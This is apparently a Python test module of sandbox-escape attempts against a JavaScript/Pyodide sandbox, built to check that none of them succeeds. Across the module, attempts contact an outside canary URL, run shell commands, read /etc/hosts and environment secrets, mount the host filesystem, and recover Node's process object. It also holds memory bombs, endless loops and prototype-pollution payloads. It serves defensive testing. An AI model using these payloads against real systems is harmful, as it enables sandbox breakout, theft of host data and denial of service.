"""What code could try to get out of a sandbox, or to harm what is outside of it.

An attempt is the body of an async function; what it returns is true if it got out. `URL` is its own address at a
server that must never hear of it, `APP` that of the app. `LATER` makes of a promise that may never settle one that
does.
"""

from collections.abc import Iterable

JAVASCRIPT = {
    "fetch": "return (await fetch(URL)).status",
    "fetch of a nested worker": """
        const code = `fetch("${URL}").then(() => postMessage(1), () => postMessage(0))`;
        const worker = new Worker(self.URL.createObjectURL(new Blob([code])));
        return await LATER(new Promise((resolve) => { worker.onmessage = (e) => resolve(e.data); }))""",
    "XMLHttpRequest": "const r = new XMLHttpRequest(); r.open('GET', URL, false); r.send(); return r.status",
    "WebSocket": """
        const socket = new WebSocket(URL.replace("http", "ws"));
        return await LATER(new Promise((resolve) => {
            socket.onopen = () => resolve(1); socket.onerror = () => resolve(0); }))""",
    "EventSource": """
        const source = new EventSource(URL);
        return await LATER(new Promise((resolve) => {
            source.onopen = () => resolve(1); source.onerror = () => resolve(0); }))""",
    "WebTransport": "return await LATER(new WebTransport(URL.replace('http:', 'https:')).ready.then(() => 1))",
    "sendBeacon": "return navigator.sendBeacon(URL)",
    "WebRTC": """
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new self.URL(URL).host}` }] });
        peer.createDataChannel("x"); await peer.setLocalDescription(); return 1""",
    "import of an address": "return Boolean(await import(URL))",
    "import of data": "return (await import('data:text/javascript,export default 1')).default",
    "import of Node": "return Boolean(await import('node:fs'))",
    "import of the app": "return Boolean(await import(APP + 'names.js'))",
    "what agents are told by the app": "return (await (await fetch(APP + 'v1/agents/')).json()).length",
    "what agents remember, by XMLHttpRequest": """
        const r = new XMLHttpRequest(); r.open("GET", APP + "v1/blocks/", false); r.send();
        return JSON.parse(r.responseText).length""",
    "importScripts": "importScripts(URL); return 1",
    "a script that is a worker": "return Boolean(new Worker(APP + 'names.js', { type: 'module' }))",
    "a font": "return Boolean(await new FontFace('x', `url(${URL})`).load())",
    "a style": """
        const style = document.createElement("style");
        style.textContent = `@import "${URL}"; body { background: url(${URL}) }`;
        document.head.append(style); return 1""",
    "an image": "return await LATER(new Promise((done) => { const i = new Image(); i.onload = done; i.src = URL; }))",
    "a prefetched name": """
        const link = document.createElement("link");
        Object.assign(link, { rel: "dns-prefetch", href: URL }); document.head.append(link); return 1""",
    "a refresh": """
        document.write(`<meta http-equiv=refresh content='0;url=${URL}'>`); document.close(); return 1""",
    "navigation": "location.href = URL; location.assign(URL); return 0",
    "a window": "return Boolean(open(URL))",
    "the frames around": "return Boolean((self.parent ?? self.top ?? self.opener).document)",
    "a word to the frames around": "parent.postMessage('end', '*'); return 1",
    "the app's channel": "new BroadcastChannel(CHANNEL).postMessage({ type: 'changed', path: '/escaped' }); return 0",
    "a worker that outlives its call": """
        return Boolean(new Worker(self.URL.createObjectURL(new Blob(["setInterval(() => {})"]))))""",
    "a shared worker": "return Boolean(new SharedWorker(APP + 'names.js'))",
    "a service worker": "return Boolean(await navigator.serviceWorker.register(APP + 'sw.js', { type: 'module' }))",
    "cookies": "return document.cookie + ((await cookieStore.getAll()).length || '')",
    "localStorage": "return localStorage.length",
    "sessionStorage": "return Boolean(sessionStorage)",
    "IndexedDB": """
        return await LATER(new Promise((resolve, reject) => {
            const asked = indexedDB.open("x"); asked.onsuccess = () => resolve(1); asked.onerror = reject; }))""",
    "names of databases": "return (await indexedDB.databases()).length",
    "Cache Storage": "return (await caches.keys()).length + 1",
    "the private file system": "return Boolean(await navigator.storage.getDirectory())",
    "the app's files": """
        const root = await navigator.storage.getDirectory();
        return Boolean(await root.getDirectoryHandle("lettawasm"))""",
    "the app's locks": "return (await navigator.locks.query()).held.length + 1",
    "process": "return Boolean(process.pid || process.env.CANARY || process.binding || process.versions)",
    "require": "return Boolean(require('fs'))",
    "Function of a function of the host's": """
        const made = [setTimeout, performance.now, console.log, crypto.getRandomValues, fetch, self.postMessage];
        return made.some((each) => each?.constructor("return typeof process")() === "object"
            && each.constructor("return Boolean(process.versions)")())""",
    "what import throws": """
        try { await import("x"); } catch (error) {
            return Boolean(error.constructor.constructor("return process.versions")()); }""",
    "what a name that is none throws": """
        try { new self.URL("::"); } catch (error) {
            return Boolean(error.constructor.constructor("return process.versions")()); }""",
    "what a full stack throws": """
        const found = [];
        const attempt = (work) => { try { work(); } catch (error) { found.push(error); } };
        const fall = () => { attempt(fall); attempt(() => setTimeout(() => {}, 1)); };
        fall();
        const isNode = "return Boolean(process.versions)";
        return found.slice(0, 50).some((error) => error.constructor.constructor(isNode)())""",
    "the frames of a stack": """
        Error.prepareStackTrace = (_, frames) => frames;
        const frames = new Error().stack;
        delete Error.prepareStackTrace;
        return [...frames].some((frame) => [frame.getThis?.(), frame.getFunction?.()].some(
            (each) => each?.constructor?.constructor("return Boolean(process.versions)")()))""",
    "intrinsics that are changed": """
        try { await import("x"); } catch (error) {
            if (error instanceof Error) return false; // one of its own
            const theirs = Object.getPrototypeOf(Object.getPrototypeOf(error.constructor));
            theirs.call = () => "escaped"; return theirs.call() === "escaped"; }""",
    "an inspection": """
        const bait = { [Symbol.for("nodejs.util.inspect.custom")](depth, options, inspect) {
            self.caught = inspect?.constructor("return Boolean(process.versions)")(); return ""; } };
        Promise.reject(bait); console.log(bait);
        await new Promise((resolve) => setTimeout(resolve, 20));
        return Boolean(self.caught)""",
}

PYTHON = {
    "a socket": """
import socket
s = socket.create_connection((HOST, PORT), timeout=1)
s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
return s.recv(1)""",
    "urllib": "from urllib.request import urlopen; return urlopen(URL, timeout=1).status",
    "http.client": "import http.client; c = http.client.HTTPConnection(HOST, PORT); c.request('GET', '/'); return 1",
    "pyodide.http": "from pyodide.http import open_url; return open_url(URL)",
    "js.XMLHttpRequest": "import js; r = js.XMLHttpRequest.new(); r.open('GET', URL, False); r.send(); return 1",
    "a package of the network": """
import pyodide_js
await pyodide_js.loadPackage(URL + 'x-1-py3-none-any.whl')
import x
return 1""",
    "a process": "import subprocess; return subprocess.run(['id']).returncode == 0",
    "os.system": "import os; return os.system('id') == 0",
    "os.fork": "import os; return os.fork() is not None",
    "os.execv": "import os; os.execv('/bin/sh', ['sh', '-c', 'true'])",
    "a signal to others": "import os, signal; os.kill(1, 0); import js; js.process.kill(1, 0); return 1",
    "a thread": "import threading; threading.Thread(target=print).start(); return 1",
    "files of the host": "return open('/etc/hosts').read()",
    "the host's files through Node": """
import pyodide_js
pyodide_js.FS.mkdir('/mnt/host')
pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, {'root': '/'}, '/mnt/host')
import os
return os.listdir('/mnt/host')""",
    "the browser's files": """
import js, pyodide_js
return await pyodide_js.mountNativeFS('/mnt/own', await js.navigator.storage.getDirectory())""",
    "the environment": "import os; return 'CANARY' in str(dict(os.environ)) or os.getenv('PATH')",
    "the environment of C": "import ctypes; return ctypes.CDLL(None).getenv(b'CANARY')",
    "another address space": "import mmap, os; return mmap.mmap(os.open('/proc/self/mem', os.O_RDWR), 4096)",
    "what others left in memory": """
import js, pyodide_js
canary = bytes(reversed(YRANAC.encode()))
heap = bytes(pyodide_js._module.HEAPU8.to_py())
return canary in heap""",
    "objects of JavaScript that lie about": """
import gc
from pyodide.ffi import JsProxy
for each in [o for o in gc.get_objects() if isinstance(o, JsProxy)]:
    try:
        if each.constructor.constructor("return Boolean(globalThis.process?.versions || globalThis.document)")():
            return 1
    except BaseException:
        pass""",
    "Pyodide's insides": """
import _pyodide_core, pyodide_js
api = pyodide_js._api
return bool(api.config.jsglobals.process.versions) or bool(api.config.jsglobals.document)""",
}

# Each in a cell of its own, which it may destroy: language, source, and whether it ends with a problem.
DESTRUCTIVE = {
    "a loop": ("python", "while True: pass", True),
    "a loop that won't be interrupted": (
        "python",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        True,
    ),
    "a loop in JavaScript": ("javascript", "for (;;);", True),
    "a wait for ever": ("python", "import asyncio\nawait asyncio.Event().wait()", True),
    "a bomb of memory": ("python", "x = b'x'\nwhile True: x += x", True),
    "a recursion": ("python", "def f(): f()\nf()", True),
    "a recursion without a limit": (
        "python",
        "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
        True,
    ),
    "a recursion in JavaScript": ("javascript", "const f = () => f(); f()", True),
    "much output": ("python", "while True: print('x' * 10**6)", True),
    "a nest of results": ("python", "x = []\nfor _ in range(10**5): x = [x]\nx", None),
    "the end of the process": ("python", "import os\nos._exit(0)", True),
    "the end of the worker": ("javascript", "self.close?.(); process.exit?.(); new Promise(() => {})", True),
    "rubbish in memory": (
        "python",
        "import pyodide_js\npyodide_js._module.HEAPU8.fill(255)\nprint(1)",
        True,
    ),
    "builtins that lie": (
        "python",
        """
import builtins, json, sys, types
for name in ('len', 'isinstance', 'str', 'dict', 'eval', 'compile', 'callable'):
    setattr(builtins, name, lambda *a, **k: 'mine')
json.loads = json.dumps = types.ModuleType = sys.exit = None
None""",
        None,
    ),
    "words of the wall": ("javascript", "self.postMessage?.({}); 1", None),
    "an endless word": ("javascript", "self.postMessage?.('x'.repeat(4e7)); 1", None),
    "many words": ("javascript", "for (;;) self.postMessage?.('x'.repeat(1e6))", True),
}

# Bombs of memory in JavaScript. Each ends with a problem, after which the host and the next call are as before.
BOMBS = {
    "buffers": "const kept = []; for (;;) kept.push(new ArrayBuffer(2 ** 30));",
    "a buffer": "new Float64Array(2 ** 40);",
    "a buffer that grows": "const one = new ArrayBuffer(1, { maxByteLength: 2 ** 40 }); one.resize(2 ** 40);",
    "memories of WebAssembly": "const kept = []; for (;;) kept.push(new WebAssembly.Memory({ initial: 2 ** 14 }));",
    "a memory that grows": "const one = new WebAssembly.Memory({ initial: 1 }); for (;;) one.grow(2 ** 14);",
    "a text": "let text = 'x'; for (;;) text += text;",
    "a list": "let list = [1.5]; for (;;) list = list.concat(list);",
    "workers": "for (;;) new Worker(URL.createObjectURL(new Blob(['onmessage = close'])));",
}

# These fill the heap of the engine, whose end is that of its process.
FULL_HEAPS = {
    "texts": "const kept = []; for (;;) kept.push(JSON.parse(JSON.stringify(String(Math.random()).repeat(1e5))));",
    "objects": "const kept = []; for (;;) kept.push({ a: Math.random(), b: [kept.length] });",
    "timers": "const kept = 'x'.repeat(1e3); for (;;) setTimeout((text) => text, 1e8, kept.split(''));",
    "promises": "const kept = []; for (;;) kept.push(new Promise((done) => kept.push(done)).then(() => kept));",
}

# What code may give as its result, and what arrives.
RESULTS = {
    "a prototype": ("javascript", """JSON.parse('{"__proto__": {"x": 1}}')""", {"__proto__": {"x": 1}}),
    "a constructor": (
        "javascript",
        """({ constructor: { prototype: { x: 1 } } })""",
        {"constructor": {"prototype": {"x": 1}}},
    ),
    "a prototype in Python": ("python", """{"__proto__": {"x": 1}}""", {"__proto__": {"x": 1}}),
    "what classes are made of": (
        "python",
        """{"__class__": "x", "__init__": {"__globals__": {"x": 1}}}""",
        {"__class__": "x", "__init__": {"__globals__": {"x": 1}}},
    ),
    "a prototype that is changed on the way": (
        "javascript",
        """({ toJSON() { Object.prototype.x = 1; return JSON.parse('{"__proto__": {"x": 2}}'); } })""",
        {"__proto__": {"x": 2}},
    ),
    "getters": ("javascript", "({ get a() { return 1; } })", {"a": 1}),
    "a getter that throws": ("javascript", "({ get a() { throw new Error('no'); } })", "[object Object]"),
    "a key twice": (
        "python",
        """type("Twice", (dict,), {"items": lambda self: [("a", 1), ("a", 2)]})(a=0)""",
        {"a": 2},
    ),
    "a large number": ("python", "10 ** 300", 10**300),
    "a nest": ("python", "eval('[' * 50 + ']' * 50)", eval("[" * 50 + "]" * 50)),
    "the end of a conversation": (
        "python",
        """{"ran": 1, "how": {"value": "mine"}}""",
        {"ran": 1, "how": {"value": "mine"}},
    ),
    "lines": ("python", """'{"ran": 1}\\n{"ran": 2}\\n'""", '{"ran": 1}\n{"ran": 2}\n'),
    "no number": ("python", "[float('nan'), float('inf')]", "[nan, inf]"),
    "no number in JavaScript": ("javascript", "[NaN, Infinity, -0]", [None, None, 0]),
    "a giant": ("python", "10 ** 5000", "a value that can't be shown"),
    "half of a pair": ("python", "'\\ud800'", "?"),
    "half of a pair in JavaScript": ("javascript", "'\\ud800'", "\ufffd"),
}


def javascript(url: str, channel: str, app: str = "", names: Iterable[str] = JAVASCRIPT) -> str:
    """A source whose value tells by name which attempts got out. Each has an address of its own below `url`."""
    cases = ",\n".join(f"{name!r}: async (URL) => {{{JAVASCRIPT[name]}}}" for name in names)
    return f"""
(async () => {{
    const APP = {app or url!r}, CHANNEL = {channel!r};
    const LATER = (promise) => Promise.race([promise, new Promise((end) => setTimeout(end, 300, 0))]);
    const out = {{}};
    for (const [name, attempt] of Object.entries({{{cases}}})) {{
        try {{ out[name] = Boolean(await attempt({url!r} + encodeURIComponent(name))); }} catch {{ out[name] = false; }}
    }}
    return out;
}})()"""


def python(url: str, host: str, port: int, canary: str, names: Iterable[str] = PYTHON) -> str:
    """The same in Python; there the attempts of JavaScript are made as well, through `js`."""
    lines = [f"URL, HOST, PORT, YRANAC = {url!r}, {host!r}, {port}, {canary[::-1]!r}", "out = {}"]
    for name in names:
        indented = "\n".join(f"        {line}" for line in PYTHON[name].strip().splitlines())
        lines += [
            "async def attempt():\n    if True:",
            indented,
            "try:",
            f"    out[{name!r}] = bool(await attempt())",
            f"except BaseException: out[{name!r}] = False",
        ]
    return "\n".join([*lines, "out"])
